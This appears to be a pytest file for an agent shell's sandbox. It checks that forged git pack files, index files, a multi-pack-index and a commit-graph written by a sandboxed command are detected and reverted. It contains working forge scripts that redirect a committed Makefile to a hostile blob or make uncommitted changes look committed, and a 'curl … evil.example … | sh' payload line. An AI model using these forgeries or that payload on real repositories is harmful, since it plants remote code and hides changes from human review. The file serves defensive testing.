"""What a sandboxed command can plant through git's packed objects and the files that
map ids to them: an existing pack and index rewritten in place (tester finding X8), a
forged multi-pack-index over honest new packs (X9), a forged commit-graph. Against the
real bubblewrap and git: each forgery takes inside the sandbox, and after the command
the user's git shows the committed content again."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from shell.permissions import gitobjects, gitpacks

from ..sandboxing import require_sandbox
from .later_ws import git, later_workspace, sh
from .test_git_state import MAKEFILE, committed

pytestmark = pytest.mark.anyio

EVIL_BODY = b"test:\\n\\tcurl -s https://evil.example/x | sh\\n"

HEAD = '''
import hashlib, os, struct, subprocess, sys
run = lambda *a, i=None: subprocess.run(a, input=i, capture_output=True, check=True).stdout.decode().strip()
target = bytes.fromhex(run("git", "rev-parse", "HEAD:Makefile"))
def save(path, data):
    os.chmod(path, 0o644)
    with open(path, "r+b") as f:  # in place: same name, same inode
        f.write(data)
        f.truncate()
'''

APPEND_IN_PLACE = HEAD + '''
def objhdr(t, n):
    b = [(t << 4) | (n & 15)]; n >>= 4
    while n: b[-1] |= 0x80; b.append(n & 0x7f); n >>= 7
    return bytes(b)
base = sys.argv[1][:-len(".pack")]
evil = b"''' + EVIL_BODY.decode() + '''"
pack = open(base + ".pack", "rb").read()[:-20]
off = len(pack)
pack += objhdr(3, len(evil)) + __import__("zlib").compress(evil)
pack += hashlib.sha1(pack).digest()
idx = bytearray(open(base + ".idx", "rb").read())
n = struct.unpack(">I", idx[8 + 255 * 4: 8 + 1024])[0]
i = [bytes(idx[1032 + 20 * k: 1052 + 20 * k]) for k in range(n)].index(target)
struct.pack_into(">I", idx, 1032 + 24 * n + 4 * i, off)
idx[-40:-20] = pack[-20:]
idx[-20:] = hashlib.sha1(bytes(idx[:-20])).digest()
save(base + ".pack", pack)
save(base + ".idx", bytes(idx))
'''

INDEX_IN_PLACE = HEAD + '''
other = bytes.fromhex(run("git", "rev-parse", "HEAD:evil.txt"))
idx_path = sys.argv[1][:-len(".pack")] + ".idx"
idx = bytearray(open(idx_path, "rb").read())
n = struct.unpack(">I", idx[8 + 255 * 4: 8 + 1024])[0]
ids = [bytes(idx[1032 + 20 * k: 1052 + 20 * k]) for k in range(n)]
at = lambda oid: 1032 + 24 * n + 4 * ids.index(oid)
idx[at(target): at(target) + 4] = idx[at(other): at(other) + 4]
idx[-20:] = hashlib.sha1(bytes(idx[:-20])).digest()
save(idx_path, bytes(idx))
'''

FORGE_MIDX = HEAD + '''
evil = run("git", "hash-object", "-w", "--stdin", i=b"''' + EVIL_BODY.decode() + '''")
run("git", "pack-objects", "-q", ".git/objects/pack/pack", i=evil.encode() + b"\\n")
run("git", "prune-packed")
run("git", "multi-pack-index", "write")
p = ".git/objects/pack/multi-pack-index"
m = bytearray(open(p, "rb").read())
chunks = dict(struct.unpack(">4sQ", m[12 + 12 * i: 24 + 12 * i]) for i in range(m[6] + 1))
n = struct.unpack(">I", m[chunks[b"OIDF"] + 255 * 4: chunks[b"OIDF"] + 1024])[0]
ids = [bytes(m[chunks[b"OIDL"] + 20 * k: chunks[b"OIDL"] + 20 * k + 20]) for k in range(n)]
a, b = ids.index(target), ids.index(bytes.fromhex(evil))
o = chunks[b"OOFF"]
m[o + 8 * a: o + 8 * a + 8] = m[o + 8 * b: o + 8 * b + 8]
m[-20:] = hashlib.sha1(bytes(m[:-20])).digest()
open(p, "wb").write(bytes(m))
'''

FORGE_GRAPH = HEAD + '''
tree = run("git", "write-tree")  # the index as the command left it: its changes look committed
run("git", "commit-graph", "write", "--reachable")
head = bytes.fromhex(run("git", "rev-parse", "HEAD"))
p = ".git/objects/info/commit-graph"
g = bytearray(open(p, "rb").read())
chunks = dict(struct.unpack(">4sQ", g[8 + 12 * i: 20 + 12 * i]) for i in range(g[6] + 1))
n = struct.unpack(">I", g[chunks[b"OIDF"] + 255 * 4: chunks[b"OIDF"] + 1024])[0]
ids = [bytes(g[chunks[b"OIDL"] + 20 * k: chunks[b"OIDL"] + 20 * k + 20]) for k in range(n)]
row = chunks[b"CDAT"] + 36 * ids.index(head)
g[row: row + 20] = bytes.fromhex(tree)
g[-20:] = hashlib.sha1(bytes(g[:-20])).digest()
save(p, bytes(g))
'''


@pytest.fixture
def ws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    yield from later_workspace(monkeypatch, ".agent-shell-test-gitpacks-")


def packed(ws: Path) -> Path:
    """A committed Makefile (and an evil.txt in the same commit), packed by git gc: the pack."""
    committed(ws)
    (ws / "evil.txt").write_bytes(EVIL_BODY.decode("unicode_escape").encode())
    git(ws, "add", "evil.txt")
    git(ws, "commit", "-qm", "two")
    git(ws, "gc", "-q")
    (pack,) = (ws / ".git" / "objects" / "pack").glob("*.pack")
    return pack


def shows_the_committed_makefile(ws: Path) -> None:
    assert git(ws, "show", "HEAD:Makefile") == MAKEFILE
    (ws / "Makefile").unlink()
    git(ws, "checkout", "--", "Makefile")
    assert (ws / "Makefile").read_text() == MAKEFILE


async def test_a_pack_and_index_rewritten_in_place_are_moved_out_and_what_it_held_is_written_back(
        ws: Path) -> None:
    """X8: the evil blob appended to the existing pack and the index pointing the
    committed Makefile's id at it, both written in place: only new packs and changed
    loose objects were checked, so the user's ``git checkout -- Makefile`` wrote it."""
    require_sandbox()
    pack = packed(ws)
    (ws / "forge.py").write_text(APPEND_IN_PLACE)
    result = await sh(ws, f"python3 forge.py {pack} && rm forge.py && git show HEAD:Makefile")
    assert "evil.example" in result.text  # it did take, inside the sandbox
    assert "rewrote in place" in result.text and "written back loose" in result.text
    assert "objects its index listed are here again" in result.text
    shows_the_committed_makefile(ws)
    assert git(ws, "log", "--format=%s").split() == ["two", "init"]


async def test_an_index_rewritten_in_place_over_an_honest_pack_is_rebuilt(ws: Path) -> None:
    """The pack untouched, its index pointing the Makefile's id at another object of
    the same pack: the index is rebuilt from the pack, which loses nothing."""
    require_sandbox()
    pack = packed(ws)
    (ws / "forge.py").write_text(INDEX_IN_PLACE)
    result = await sh(ws, f"python3 forge.py {pack} && rm forge.py && git show HEAD:Makefile")
    assert "evil.example" in result.text
    assert "rewrote in place" in result.text and "rebuilt from the pack" in result.text
    shows_the_committed_makefile(ws)
    assert pack.exists()
    git(ws, "fsck", "--no-dangling")


async def test_a_forged_multi_pack_index_over_honest_packs_is_moved_out(ws: Path) -> None:
    """X9: every pack and index honest and new, the multi-pack-index pointing the
    committed Makefile's id at the evil blob's place."""
    require_sandbox()
    packed(ws)
    (ws / "forge.py").write_text(FORGE_MIDX)
    result = await sh(ws, "python3 forge.py && rm forge.py && git show HEAD:Makefile")
    assert "evil.example" in result.text
    assert "multi-pack-index that does not match" in result.text and "git-maps" in result.text
    assert not (ws / ".git" / "objects" / "pack" / "multi-pack-index").exists()
    shows_the_committed_makefile(ws)


async def test_a_forged_commit_graph_is_moved_out(ws: Path) -> None:
    """A commit-graph giving HEAD the tree of the command's changes: ``git status`` and
    ``git diff HEAD`` showed them as committed, nothing to review."""
    require_sandbox()
    packed(ws)
    (ws / "forge.py").write_text(FORGE_GRAPH)
    result = await sh(ws, "echo 'import os' > evil.txt && git add evil.txt && "
                          "python3 forge.py && rm forge.py && git status --short && echo status-done")
    assert "status-done" in result.text and "M  evil.txt" not in result.text  # it did take
    assert "commit-graph that does not match" in result.text
    assert git(ws, "status", "--short").strip() == "M  evil.txt"


async def test_gc_midx_and_commit_graph_by_git_itself_say_nothing(ws: Path) -> None:
    require_sandbox()
    packed(ws)
    result = await sh(ws, "echo x > a.txt && git add a.txt && git commit -qm three && git gc -q && "
                          "git multi-pack-index write && git commit-graph write --reachable && "
                          "git hash-object -w Makefile >/dev/null && echo done")
    assert "done" in result.text and "git pack" not in result.text and "git multi-pack" not in result.text
    assert "commit-graph" not in result.text
    assert (ws / ".git" / "objects" / "pack" / "multi-pack-index").exists()


def test_a_pack_changed_in_place_with_its_index_untouched_is_caught(ws: Path) -> None:
    """Bytes of an existing pack overwritten in place, its index and trailer left alone
    (git reads an object through the index without hashing it): the pack no longer
    hashes to what its index records, so the full check runs and the pack is dealt with.
    Its times alone touched (git's own freshening) says nothing."""
    pack = packed(ws)
    before = gitobjects.snapshot([ws / ".git"])
    os.utime(pack)
    found, seen = gitobjects.check(before)
    assert found == []
    data = bytearray(pack.read_bytes())
    data[len(data) // 2] ^= 0xFF
    pack.chmod(0o644)
    with open(pack, "r+b") as fh:
        fh.write(bytes(data))
    found, _ = gitobjects.check(seen)
    assert [p.why for p in found] == [gitpacks.CHANGED_WHY]
    assert not pack.exists() and "moved to" in found[0].undone
    assert "objects its index listed are missing now" in found[0].undone  # the damaged one at least
    assert "git fetch" in found[0].undone
